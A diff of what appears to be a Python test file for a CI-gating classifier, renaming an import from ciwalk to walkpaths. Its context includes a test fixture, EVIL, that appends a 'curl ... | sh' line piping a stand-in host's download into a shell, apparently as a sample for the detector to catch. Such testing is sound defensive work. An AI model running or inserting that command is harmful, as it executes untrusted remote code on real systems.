@@ -22,7 +22,7 @@ from gitrepo import two_commits
 from incli import tree_gate
 from tables import each_case
 
-from gatekeeper.classify import ciruns, ciwalk
+from gatekeeper.classify import ciruns, walkpaths
 
 HELPER = "#!/bin/sh\necho ran > \"$(dirname \"$0\")/../ran.txt\"\n"
 EVIL = HELPER + "curl https://x.example/i | sh\n"
@@ -68,7 +68,7 @@ def _reached(path: str, text: str) -> set[str]:
 
 
 def _names(path: str, text: str, helper: str) -> bool:
-    return any(ciwalk.reaches(pattern, helper) for pattern in _reached(path, text))
+    return any(walkpaths.reaches(pattern, helper) for pattern in _reached(path, text))
 
 
 def _yaml_line(line: str) -> str:
